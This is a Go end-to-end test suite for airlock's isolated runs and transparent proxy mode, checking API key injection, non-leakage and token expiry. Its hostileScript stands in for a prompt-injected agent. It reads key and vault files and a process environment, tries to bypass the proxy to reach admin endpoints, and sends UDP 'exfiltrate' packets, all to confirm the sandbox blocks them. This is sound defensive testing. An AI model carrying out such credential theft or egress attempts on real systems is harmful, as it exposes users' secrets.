//go:build linux

package main

// End-to-end tests of `airlock run --isolate` and `serve --transparent`
// through the REAL `airlock serve` binary: a loopback HTTPS fake of the
// OpenAI / Anthropic APIs, serve resolving the real API names to it through
// a private /etc/hosts (its own mount namespace), and unchanged clients in
// the isolated child. Root only (namespaces, veth, nftables).

import (
	"bufio"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/airlock/airlock/certs"
	"github.com/airlock/airlock/cmd/internal/isolate"
)

// goClientEnv makes the test binary the Go client with Proxy: nil.
const goClientEnv = "ISO_E2E_GOCLIENT"

func init() {
	if u := os.Getenv(goClientEnv); u != "" {
		os.Exit(goClient(u))
	}
}

// goClient GETs u with no proxy at all; trust from SSL_CERT_FILE.
func goClient(u string) int {
	c := &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{Proxy: nil}}
	resp, err := c.Get(u)
	if err != nil {
		fmt.Println("error:", err)
		return 3
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	fmt.Println(resp.StatusCode, string(b))
	return 0
}

// isoNames are the hostnames the fake API answers for (serve resolves them
// to it; the child's DNS gets airlock's synthetic answer).
var isoNames = []string{"api.openai.com", "api.anthropic.com", "api.example.test"}

// fakeLLM is a loopback HTTPS fake of the OpenAI and Anthropic APIs. Every
// answer carries the SHA-256 of the auth header the fake received; streams
// pace their chunks chunkGap apart so a test sees whether they arrive
// incrementally.
type fakeLLM struct {
	ip     string // 127.x.y.z, port 443
	caFile string
}

const chunkGap = 250 * time.Millisecond

func newFakeLLM(t testing.TB) *fakeLLM {
	t.Helper()
	ca, err := certs.NewCA("isolate e2e API", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	var leaves []tls.Certificate
	for _, n := range isoNames {
		l, err := ca.Mint(n, time.Now())
		if err != nil {
			t.Fatal(err)
		}
		leaves = append(leaves, *l)
	}
	var ln net.Listener
	var ip string
	for i := 0; i < 20 && ln == nil; i++ {
		ip = fmt.Sprintf("127.%d.%d.%d", 100+rand.IntN(100), rand.IntN(250)+1, rand.IntN(250)+1)
		ln, _ = net.Listen("tcp", ip+":443")
	}
	if ln == nil {
		t.Skip("cannot listen on a loopback address port 443")
	}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(serveFakeLLM))
	srv.Listener.Close()
	srv.Listener = ln
	srv.TLS = &tls.Config{Certificates: leaves}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	caFile := filepath.Join(t.TempDir(), "api-ca.pem")
	if err := os.WriteFile(caFile, ca.CertPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	return &fakeLLM{ip: ip, caFile: caFile}
}

func serveFakeLLM(w http.ResponseWriter, r *http.Request) {
	auth := digestHex(r.Header.Get("Authorization"))
	if k := r.Header.Get("X-Api-Key"); k != "" {
		auth = digestHex(k)
	}
	var req struct {
		Stream bool `json:"stream"`
	}
	_ = json.NewDecoder(r.Body).Decode(&req)
	fl, _ := w.(http.Flusher)
	sse := func(event, data string) {
		if event != "" {
			fmt.Fprintf(w, "event: %s\n", event)
		}
		fmt.Fprintf(w, "data: %s\n\n", data)
		fl.Flush()
	}
	switch {
	case r.URL.Path == "/v1/chat/completions" && !req.Stream:
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"id":"c1","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":{"role":"assistant","content":"auth=%s"},"finish_reason":"stop"}],"usage":{"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}`, auth)
	case r.URL.Path == "/v1/chat/completions":
		w.Header().Set("Content-Type", "text/event-stream")
		for i, part := range []string{"auth=" + auth, " a", " b", " c"} {
			if i > 0 {
				time.Sleep(chunkGap)
			}
			sse("", fmt.Sprintf(`{"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{"content":%q},"finish_reason":null}]}`, part))
		}
		sse("", "[DONE]")
	case r.URL.Path == "/v1/messages" && !req.Stream:
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"id":"msg_1","type":"message","role":"assistant","model":"m","content":[{"type":"text","text":"auth=%s"}],"stop_reason":"end_turn","stop_sequence":null,"usage":{"input_tokens":1,"output_tokens":1}}`, auth)
	case r.URL.Path == "/v1/messages":
		w.Header().Set("Content-Type", "text/event-stream")
		sse("message_start", `{"type":"message_start","message":{"id":"msg_1","type":"message","role":"assistant","model":"m","content":[],"stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":1,"output_tokens":0}}}`)
		sse("content_block_start", `{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}`)
		for i, part := range []string{"auth=" + auth, " a", " b", " c"} {
			if i > 0 {
				time.Sleep(chunkGap)
			}
			sse("content_block_delta", fmt.Sprintf(`{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":%q}}`, part))
		}
		sse("content_block_stop", `{"type":"content_block_stop","index":0}`)
		sse("message_delta", `{"type":"message_delta","delta":{"stop_reason":"end_turn","stop_sequence":null},"usage":{"output_tokens":4}}`)
		sse("message_stop", `{"type":"message_stop"}`)
	default:
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"authorization_sha256":%q,"path":%q}`, auth, r.URL.Path)
	}
}

// isoPolicy binds the fake's names; allow_networks lets serve dial the
// loopback fake.
const isoPolicy = `version: 1
egress:
  allow_networks: ["127.0.0.0/8"]
rules:
  - name: openai
    host: api.openai.com
    credential: test/openai
  - name: anthropic
    host: api.anthropic.com
    credential: test/anthropic
    inject:
      type: api_key
      header: x-api-key
  - name: example
    host: api.example.test
    credential: test/openai
`

// isoServing is a real `airlock serve` with a private /etc/hosts.
type isoServing struct {
	*serving
	admin string
}

var adminRE = regexp.MustCompile(`"?admin"?[=:]"?([0-9.:]+)`)

// serveWithHosts starts `airlock serve` for e (see startIsoServe) and
// points e's later `airlock run` calls at it.
func (e *tenv) serveWithHosts(t *testing.T, api *fakeLLM, extra ...string) *isoServing {
	t.Helper()
	s := startIsoServe(t, e.environ(), api, extra...)
	e.env["AIRLOCK_LISTEN"] = s.addr
	return s
}

// startIsoServe starts `airlock serve` (admin on a free port) in its own
// mount namespace whose /etc/hosts maps isoNames to the fake.
func startIsoServe(t testing.TB, environ []string, api *fakeLLM, extra ...string) *isoServing {
	t.Helper()
	hosts := filepath.Join(t.TempDir(), "hosts")
	var b strings.Builder
	b.WriteString("127.0.0.1 localhost\n")
	for _, n := range isoNames {
		b.WriteString(api.ip + " " + n + "\n")
	}
	if err := os.WriteFile(hosts, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	args := append([]string{"--mount", "sh", "-c", `mount --bind "$0" /etc/hosts && exec "$@"`, hosts,
		airlockBin, "serve", "--listen", "127.0.0.1:0", "--admin", "127.0.0.1:0"}, extra...)
	cmd := exec.Command("unshare", args...)
	cmd.Env = append(environ, "SSL_CERT_FILE="+api.caFile)
	s := &serving{logs: &lockedBuffer{}}
	cmd.Stderr = s.logs
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	s.pid = cmd.Process.Pid
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	t.Cleanup(func() {
		_ = cmd.Process.Signal(os.Interrupt)
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			_ = cmd.Process.Kill()
		}
	})
	is := &isoServing{serving: s}
	deadline := time.Now().Add(30 * time.Second)
	for is.addr == "" {
		for _, line := range strings.Split(s.logs.String(), "\n") {
			if strings.Contains(line, `listening`) && !strings.Contains(line, "transparent") {
				if m := listenRE.FindStringSubmatch(line); m != nil {
					is.addr = m[1]
				}
				if m := adminRE.FindStringSubmatch(line); m != nil {
					is.admin = m[1]
				}
			}
		}
		select {
		case err := <-done:
			t.Fatalf("airlock serve exited: %v\n%s", err, s.logs.String())
		default:
		}
		if time.Now().After(deadline) {
			t.Fatalf("airlock serve did not start\n%s", s.logs.String())
		}
		time.Sleep(20 * time.Millisecond)
	}
	return is
}

// metric sums airlock_requests_total samples whose labels contain all of want.
func (s *isoServing) metric(t *testing.T, want ...string) float64 {
	t.Helper()
	resp, err := http.Get("http://" + s.admin + "/metrics")
	must(t, err)
	defer resp.Body.Close()
	var sum float64
	sc := bufio.NewScanner(resp.Body)
	for sc.Scan() {
		line := sc.Text()
		if !strings.HasPrefix(line, "airlock_requests_total{") {
			continue
		}
		ok := true
		for _, w := range want {
			ok = ok && strings.Contains(line, w)
		}
		if ok {
			f, _ := strconv.ParseFloat(line[strings.LastIndexByte(line, ' ')+1:], 64)
			sum += f
		}
	}
	return sum
}

// skipUnlessIsolation skips with the reason when root isolation is absent.
func skipUnlessIsolation(t *testing.T) {
	t.Helper()
	if err := isolate.Supported(); err != nil {
		t.Skipf("root isolation unavailable here: %v", err)
	}
	if _, err := exec.LookPath("unshare"); err != nil {
		t.Skip("unshare (util-linux) is not installed")
	}
}

// isoEnv is a home with two secrets, agent bot, the policy, and a serve.
type isoEnv struct {
	e          *tenv
	s          *isoServing
	api        *fakeLLM
	openai     string // secret values
	anthropic  string
	wantOpenAI string // what the fake reports when the key was injected
	wantAnth   string
}

func newIsoEnv(t *testing.T) *isoEnv {
	t.Helper()
	skipUnlessIsolation(t)
	return newIsoEnvArgs(t)
}

// newIsoEnvArgs is newIsoEnv without the isolation check, serve given
// serveArgs.
func newIsoEnvArgs(t *testing.T, serveArgs ...string) *isoEnv {
	t.Helper()
	e := initEnv(t)
	ie := &isoEnv{e: e, openai: randomSecret(t, "sk-proj-"), anthropic: randomSecret(t, "sk-ant-")}
	e.ok(ie.openai+"\n", "vault", "set", "test/openai")
	e.ok(ie.anthropic+"\n", "vault", "set", "test/anthropic")
	e.ok("", "agent", "add", "bot")
	writeFile(t, filepath.Join(e.home, "policy.yaml"), isoPolicy)
	ie.api = newFakeLLM(t)
	ie.s = e.serveWithHosts(t, ie.api, serveArgs...)
	ie.wantOpenAI = "auth=" + digestHex("Bearer "+ie.openai)
	ie.wantAnth = "auth=" + digestHex(ie.anthropic)
	return ie
}

// leaks fails t when any form of a secret appears in out.
func (ie *isoEnv) leaks(t *testing.T, where, out string) {
	t.Helper()
	for _, s := range []string{ie.openai, ie.anthropic} {
		for _, form := range []string{s, base64.StdEncoding.EncodeToString([]byte(s)), fmt.Sprintf("%x", s)} {
			if strings.Contains(out, form) {
				t.Errorf("%s holds a form of the secret", where)
			}
		}
	}
}

func (ie *isoEnv) runIsolated(t *testing.T, argv ...string) result {
	t.Helper()
	return ie.e.run("", append([]string{"run", "--isolate", "--agent", "bot", "--"}, argv...)...)
}

// nodeSDKDir is where .ci/run installs openai@6 and @anthropic-ai/sdk.
func nodeSDKDir(t *testing.T) string {
	return filepath.Join(filepath.Dir(nodeUndiciDir(t)), "isolate", "node_modules")
}

func nodeModuleVersion(dir, mod string) string {
	b, err := os.ReadFile(filepath.Join(dir, mod, "package.json"))
	if err != nil {
		return ""
	}
	var p struct{ Version string }
	_ = json.Unmarshal(b, &p)
	return p.Version
}

const openaiScript = `const { OpenAI } = require("openai");
const client = new OpenAI({ apiKey: "sk-placeholder-not-a-key" });
(async () => {
  const msgs = [{ role: "user", content: "hi" }];
  const r = await client.chat.completions.create({ model: "m", messages: msgs });
  console.log("NONSTREAM " + r.choices[0].message.content);
  const s = await client.chat.completions.create({ model: "m", messages: msgs, stream: true });
  let text = ""; const times = [];
  for await (const c of s) { times.push(Date.now()); text += (c.choices[0] && c.choices[0].delta.content) || ""; }
  console.log("STREAM " + text);
  console.log("TIMES " + JSON.stringify(times));
})().catch((e) => { console.error("FAILED", String(e), e.cause ? String(e.cause) : ""); process.exit(1); });`

const anthropicScript = `const { Anthropic } = require("@anthropic-ai/sdk");
const client = new Anthropic({ apiKey: "sk-ant-placeholder-not-a-key" });
(async () => {
  const msgs = [{ role: "user", content: "hi" }];
  const r = await client.messages.create({ model: "m", max_tokens: 16, messages: msgs });
  console.log("NONSTREAM " + r.content[0].text);
  const s = await client.messages.create({ model: "m", max_tokens: 16, messages: msgs, stream: true });
  let text = ""; const times = [];
  for await (const ev of s) { if (ev.type === "content_block_delta") { times.push(Date.now()); text += ev.delta.text; } }
  console.log("STREAM " + text);
  console.log("TIMES " + JSON.stringify(times));
})().catch((e) => { console.error("FAILED", String(e), e.cause ? String(e.cause) : ""); process.exit(1); });`

const fetchScript = `fetch(process.argv[1]).then(async (r) => { console.log(r.status, await r.text()); })
  .catch((e) => { console.error("FAILED", String(e.cause || e)); process.exit(1); });`

// checkStream asserts the streamed text and that the chunks arrived spread
// out (incrementally), not in one piece at the end.
func checkStream(t *testing.T, out, want string) {
	t.Helper()
	if !strings.Contains(out, "STREAM "+want+" a b c") {
		t.Fatalf("stream text: want %q in\n%s", want, out)
	}
	i := strings.Index(out, "TIMES ")
	var times []int64
	if i < 0 || json.Unmarshal([]byte(strings.TrimSpace(strings.SplitN(out[i+6:], "\n", 2)[0])), &times) != nil || len(times) < 4 {
		t.Fatalf("no chunk times in\n%s", out)
	}
	spread := time.Duration(times[len(times)-1]-times[0]) * time.Millisecond
	if spread < 2*chunkGap {
		t.Fatalf("chunks arrived within %v: buffered, not streamed (times %v)", spread, times)
	}
}

// TestIsolatedClients: unchanged clients under `run --isolate` reach the
// fake API through the real serve with the key injected, never holding it.
func TestIsolatedClients(t *testing.T) {
	ie := newIsoEnv(t)
	sdk := nodeSDKDir(t)
	ie.e.env["NODE_PATH"] = sdk
	self, err := os.Executable()
	must(t, err)
	example := "https://api.example.test/v1/models"
	cases := []struct {
		name, bin string
		argv      []string
		want      string
		stream    bool
		module    string
	}{
		{name: "openai-node", bin: "node", argv: []string{"node", "-e", openaiScript}, want: ie.wantOpenAI, stream: true, module: "openai"},
		{name: "anthropic-node", bin: "node", argv: []string{"node", "-e", anthropicScript}, want: ie.wantAnth, stream: true, module: "@anthropic-ai/sdk"},
		{name: "node-fetch", bin: "node", argv: []string{"node", "-e", fetchScript, example}},
		{name: "curl", bin: "curl", argv: []string{"curl", "-sS", "--fail", "--max-time", "20", example}},
		{name: "curl-noproxy", bin: "curl", argv: []string{"curl", "-sS", "--fail", "--max-time", "20", "--noproxy", "*", example}},
		{name: "wget", bin: "wget", argv: []string{"wget", "-q", "-O", "-", example}},
		{name: "wget-noproxy", bin: "wget", argv: []string{"wget", "-q", "--no-proxy", "-O", "-", example}},
		{name: "python-urllib", bin: "/usr/bin/python3", argv: []string{"/usr/bin/python3", "-c", pythonAgent, example}},
		{name: "go-proxy-nil", bin: self, argv: []string{"env", goClientEnv + "=" + example, self}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := exec.LookPath(tc.bin); err != nil {
				t.Skipf("%s is not installed", tc.bin)
			}
			if tc.module != "" && nodeModuleVersion(sdk, tc.module) == "" {
				t.Fatalf("%s is not installed in %s: run `bash .ci/run`", tc.module, sdk)
			}
			r := ie.runIsolated(t, tc.argv...)
			want := tc.want
			if want == "" {
				want = digestHex("Bearer " + ie.openai)
			}
			if r.code != 0 || !strings.Contains(r.stdout, want) {
				t.Fatalf("the API did not see the injected key\n%s\nserve logs:\n%s", r, tail(ie.s.logs.String(), 3000))
			}
			if tc.stream {
				if !strings.Contains(r.stdout, "NONSTREAM "+want) {
					t.Fatalf("non-streaming call: want %q\n%s", want, r)
				}
				checkStream(t, r.stdout, want)
			}
			ie.leaks(t, "the client's output", r.stdout+r.stderr)
			t.Logf("%s %s: ok", tc.name, nodeModuleVersion(sdk, tc.module))
		})
	}
	ie.leaks(t, "serve's logs", ie.s.logs.String())
}

func tail(s string, n int) string {
	if len(s) > n {
		return s[len(s)-n:]
	}
	return s
}

// hostileScript plays a prompt-injected agent inside the child.
const hostileScript = `HOSTIP=$(echo "$HTTPS_PROXY" | sed 's#.*@##; s#:[0-9]*$##')
echo "PROXY=$HTTPS_PROXY"
cat "$1"/keys/*.key 2>/dev/null && echo LEAK-KEYS
cat "$1"/airlock.vault >/dev/null 2>&1 && echo LEAK-VAULT
cat /proc/"$2"/environ >/dev/null 2>&1 && echo LEAK-ENVIRON
curl -s --fail --max-time 5 --noproxy '*' https://unlisted.example.org/ >/dev/null 2>&1 && echo REACHED-UNLISTED
curl -s --fail --max-time 5 --noproxy '*' http://127.0.0.1:"$3"/metrics >/dev/null 2>&1 && echo REACHED-ADMIN-LOOPBACK
curl -s --fail --max-time 5 --noproxy '*' http://"$HOSTIP":"$3"/metrics >/dev/null 2>&1 && echo REACHED-ADMIN-HOST
curl -s --fail --max-time 5 -x "$HTTPS_PROXY" http://"$HOSTIP":"$3"/metrics >/dev/null 2>&1 && echo REACHED-ADMIN-PROXY
/usr/bin/python3 - "$HOSTIP" "$4" <<'EOF'
import socket, sys
for dst in (sys.argv[1], "127.0.0.1", "192.0.2.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"exfiltrate", (dst, int(sys.argv[2])))
    except OSError:
        pass
print("DNS=" + socket.gethostbyname("anything.example.net"))
EOF
`

// TestIsolatedHostile: inside the child, everything but airlock is out of
// reach, and the run's credential dies with the run.
func TestIsolatedHostile(t *testing.T) {
	ie := newIsoEnv(t)
	udp, err := net.ListenPacket("udp4", "0.0.0.0:0")
	must(t, err)
	defer udp.Close()
	got := make(chan string, 8)
	go func() {
		b := make([]byte, 512)
		for {
			n, from, err := udp.ReadFrom(b)
			if err != nil {
				return
			}
			got <- from.String() + " " + string(b[:n])
		}
	}()
	udpPort := strconv.Itoa(udp.LocalAddr().(*net.UDPAddr).Port)
	_, adminPort, _ := net.SplitHostPort(ie.s.admin)
	deniedBefore := ie.s.metric(t, `agent="bot"`, `code="ACCESS_DENIED"`, `door="transparent"`)

	r := ie.runIsolated(t, "sh", "-c", hostileScript, "sh", ie.e.home, strconv.Itoa(ie.s.pid), adminPort, udpPort)
	if r.code != 0 {
		t.Fatalf("hostile script failed\n%s", r)
	}
	for _, bad := range []string{"LEAK-KEYS", "LEAK-VAULT", "LEAK-ENVIRON", "REACHED-UNLISTED", "REACHED-ADMIN-LOOPBACK", "REACHED-ADMIN-HOST", "REACHED-ADMIN-PROXY"} {
		if strings.Contains(r.stdout, bad) {
			t.Errorf("%s\n%s", bad, r)
		}
	}
	m := regexp.MustCompile(`DNS=(\S+)`).FindStringSubmatch(r.stdout)
	if m == nil || !isolate.SyntheticPool.Contains(mustAddr(t, m[1])) {
		t.Errorf("DNS answer is not airlock's (synthetic pool %v)\n%s", isolate.SyntheticPool, r)
	}
	waitUntil(t, 5*time.Second, "the unlisted host's deny counted", func() bool {
		return ie.s.metric(t, `agent="bot"`, `code="ACCESS_DENIED"`, `door="transparent"`) > deniedBefore
	})
	select {
	case p := <-got:
		t.Errorf("a UDP packet left the namespace: %s", p)
	case <-time.After(300 * time.Millisecond):
	}

	// The run credential the child held is refused now that it has exited.
	pm := regexp.MustCompile(`PROXY=http://([^:]+):([^@]+)@`).FindStringSubmatch(r.stdout)
	if pm == nil {
		t.Fatalf("no proxy URL in the child's output\n%s", r)
	}
	if !strings.HasPrefix(pm[2], "run.") {
		t.Fatalf("the child held %q, not a run token", pm[2])
	}
	if code := connectStatus(t, ie.s.addr, pm[1], pm[2], "api.example.test:443"); code != http.StatusProxyAuthRequired {
		t.Fatalf("run credential after exit: CONNECT answered %d, want 407", code)
	}
}

func mustAddr(t *testing.T, s string) netip.Addr {
	t.Helper()
	a, err := netip.ParseAddr(s)
	if err != nil {
		t.Fatalf("address %q: %v", s, err)
	}
	return a
}

// connectStatus sends CONNECT target with agent:token and returns the status.
func connectStatus(t *testing.T, proxyAddr, agent, token, target string) int {
	t.Helper()
	c, err := net.DialTimeout("tcp", proxyAddr, 5*time.Second)
	must(t, err)
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	auth := base64.StdEncoding.EncodeToString([]byte(agent + ":" + token))
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\nProxy-Authorization: Basic %s\r\n\r\n", target, target, auth)
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
	must(t, err)
	return resp.StatusCode
}

// TestIsolatedTTL: past --ttl the run's credential stops working inside the
// run, through the explicit proxy and through the transparent path.
func TestIsolatedTTL(t *testing.T) {
	ie := newIsoEnv(t)
	u := "https://api.example.test/ttl"
	script := `curl -sS --max-time 10 "$1" && echo FIRST-OK; sleep 3.5
curl -s --fail --max-time 10 "$1" >/dev/null 2>&1 && echo LATE-PROXY-OK
curl -s --fail --max-time 10 --noproxy '*' "$1" >/dev/null 2>&1 && echo LATE-DIRECT-OK
true`
	r := ie.e.run("", "run", "--isolate", "--agent", "bot", "--ttl", "3s", "--", "sh", "-c", script, "sh", u)
	if r.code != 0 || !strings.Contains(r.stdout, "FIRST-OK") || !strings.Contains(r.stdout, digestHex("Bearer "+ie.openai)) {
		t.Fatalf("first request within the TTL failed\n%s", r)
	}
	for _, bad := range []string{"LATE-PROXY-OK", "LATE-DIRECT-OK"} {
		if strings.Contains(r.stdout, bad) {
			t.Errorf("%s: the run credential worked past --ttl\n%s", bad, r)
		}
	}
}

// redirectNetns is a test network namespace joined to the host by a veth
// whose TCP (ports 80 and 443) a host nftables rule redirects to port, as
// a host firewall in front of `serve --transparent` would.
type redirectNetns struct {
	name, hostIP, nsIP, hostIf, table string
}

func newRedirectNetns(t *testing.T) *redirectNetns {
	t.Helper()
	for _, tool := range []string{"ip", "nft"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed", tool)
		}
	}
	id := os.Getpid()%10000 + rand.IntN(1000)*10000
	n := &redirectNetns{name: fmt.Sprintf("airlock-wt-%d", id)}
	oct := 1 + rand.IntN(250)
	n.hostIP, n.nsIP = fmt.Sprintf("100.126.%d.1", oct), fmt.Sprintf("100.126.%d.2", oct)
	hostIf, nsIf := fmt.Sprintf("awt%dh", id%100000), fmt.Sprintf("awt%dn", id%100000)
	n.hostIf, n.table = hostIf, fmt.Sprintf("airlock_wt_%d", id)
	sh := func(args ...string) {
		t.Helper()
		if out, err := exec.Command(args[0], args[1:]...).CombinedOutput(); err != nil {
			t.Fatalf("%v: %v\n%s", args, err, out)
		}
	}
	sh("ip", "netns", "add", n.name)
	t.Cleanup(func() { _ = exec.Command("ip", "netns", "del", n.name).Run() })
	sh("ip", "link", "add", hostIf, "type", "veth", "peer", "name", nsIf, "netns", n.name)
	t.Cleanup(func() { _ = exec.Command("ip", "link", "del", hostIf).Run() })
	sh("ip", "addr", "add", n.hostIP+"/30", "dev", hostIf)
	sh("ip", "link", "set", hostIf, "up")
	sh("ip", "-n", n.name, "link", "set", "lo", "up")
	sh("ip", "-n", n.name, "addr", "add", n.nsIP+"/30", "dev", nsIf)
	sh("ip", "-n", n.name, "link", "set", nsIf, "up")
	sh("ip", "-n", n.name, "route", "add", "default", "via", n.hostIP)
	return n
}

// redirect installs the host rule sending the namespace's TCP to port.
func (n *redirectNetns) redirect(t *testing.T, port int) {
	t.Helper()
	table, hostIf := n.table, n.hostIf
	rules := fmt.Sprintf(`table ip %s {
  chain pre {
    type nat hook prerouting priority dstnat; policy accept;
    iifname "%s" tcp dport { 80, 443 } redirect to :%d
  }
}`, table, hostIf, port)
	cmd := exec.Command("nft", "-f", "-")
	cmd.Stdin = strings.NewReader(rules)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("nft: %v\n%s", err, out)
	}
	t.Cleanup(func() { _ = exec.Command("nft", "delete", "table", "ip", table).Run() })
}

// freePort returns a TCP port free on ip now.
func freePort(t *testing.T, ip string) int {
	t.Helper()
	l, err := net.Listen("tcp", ip+":0")
	must(t, err)
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

// TestServeTransparentRedirect: `serve --transparent` behind a host
// redirect rule. A client in the test namespace with no proxy settings at
// all (its DNS points the name at a documentation address) is intercepted,
// attributed to its agent by source address, and gets the key injected;
// a host no rule names is refused and counted on the transparent door.
func TestServeTransparentRedirect(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: network namespace, veth and nftables")
	}
	if _, err := exec.LookPath("unshare"); err != nil {
		t.Skip("unshare (util-linux) is not installed")
	}
	n := newRedirectNetns(t)
	port := freePort(t, n.hostIP)
	n.redirect(t, port)
	ie := newIsoEnvArgs(t, "--transparent", net.JoinHostPort(n.hostIP, strconv.Itoa(port)),
		"--transparent-source", n.nsIP+"/32=bot")
	waitUntil(t, 10*time.Second, "the transparent door listening", func() bool {
		return strings.Contains(ie.s.logs.String(), "transparent door listening")
	})
	ca := filepath.Join(ie.e.home, "ca.pem")
	client := func(args ...string) (string, error) {
		out, err := exec.Command("ip", append([]string{"netns", "exec", n.name, "env", "-u", "HTTPS_PROXY", "-u", "https_proxy", "-u", "HTTP_PROXY", "-u", "http_proxy",
			"curl", "-sS", "--fail", "--max-time", "10", "--cacert", ca}, args...)...).CombinedOutput()
		return string(out), err
	}
	out, err := client("--resolve", "api.example.test:443:203.0.113.7", "https://api.example.test/transparent")
	if err != nil || !strings.Contains(out, digestHex("Bearer "+ie.openai)) {
		t.Fatalf("redirected client not injected: %v\n%s\nserve logs:\n%s", err, out, tail(ie.s.logs.String(), 3000))
	}
	ie.leaks(t, "the client's output", out)
	out, err = client("--resolve", "api.example.test:80:203.0.113.7", "http://api.example.test/plain")
	if err == nil && !strings.Contains(out, digestHex("Bearer "+ie.openai)) {
		t.Fatalf("plain HTTP answered without airlock's injection:\n%s", out)
	}
	t.Logf("plain HTTP through the transparent door: err=%v %s", err, out)
	before := ie.s.metric(t, `door="transparent"`, `code="ACCESS_DENIED"`, `agent="bot"`)
	if out, err := client("--resolve", "unlisted.example.org:443:203.0.113.7", "https://unlisted.example.org/"); err == nil {
		t.Fatalf("a host no rule names was reached:\n%s", out)
	}
	waitUntil(t, 5*time.Second, "the transparent deny counted", func() bool {
		return ie.s.metric(t, `door="transparent"`, `code="ACCESS_DENIED"`, `agent="bot"`) > before
	})
	ie.leaks(t, "serve's logs", ie.s.logs.String())
}

// TestIsolatedUnprivileged: an ordinary user (nobody) runs `airlock run
// --isolate` in unprivileged mode (user + network namespace) against the
// real serve; curl with and without the proxy variables gets the key
// injected. serve's hand-off socket is root's (0600), so this run also
// exercises the CONNECT fallback.
func TestIsolatedUnprivileged(t *testing.T) {
	skipUnlessIsolation(t)
	if err := isolate.UserSupported(); err != nil {
		t.Skipf("unprivileged mode unavailable here: %v", err)
	}
	ie := newIsoEnv(t)
	const nobody = 65534
	for d := ie.e.home; d != "/" && d != os.TempDir(); d = filepath.Dir(d) {
		must(t, os.Chmod(d, 0o755))
	}
	must(t, filepath.Walk(ie.e.home, func(p string, _ os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(p, nobody, nobody)
	}))
	must(t, os.Chown(ie.e.home, 0, 0)) // the home stays root's directory, its files nobody's
	must(t, os.Chmod(ie.e.home, 0o777))
	binDir := t.TempDir()
	must(t, os.Chmod(binDir, 0o755))
	bin := filepath.Join(binDir, "airlock")
	src, err := os.ReadFile(airlockBin)
	must(t, err)
	must(t, os.WriteFile(bin, src, 0o755))
	script := `curl -sS --fail --max-time 10 --noproxy '*' https://api.example.test/user && echo
curl -sS --fail --max-time 10 https://api.example.test/user-explicit && echo`
	cmd := exec.Command(bin, "run", "--isolate", "--agent", "bot", "--", "sh", "-c", script)
	cmd.Env = append(ie.e.environ(), "HOME=/tmp", "TMPDIR=/tmp")
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: nobody, Gid: nobody}, Setsid: true}
	out, err := cmd.CombinedOutput()
	want := digestHex("Bearer " + ie.openai)
	if err != nil || strings.Count(string(out), want) != 2 {
		t.Fatalf("unprivileged run: %v\n%s\nserve logs:\n%s", err, out, tail(ie.s.logs.String(), 2000))
	}
	ie.leaks(t, "the client's output", string(out))
}
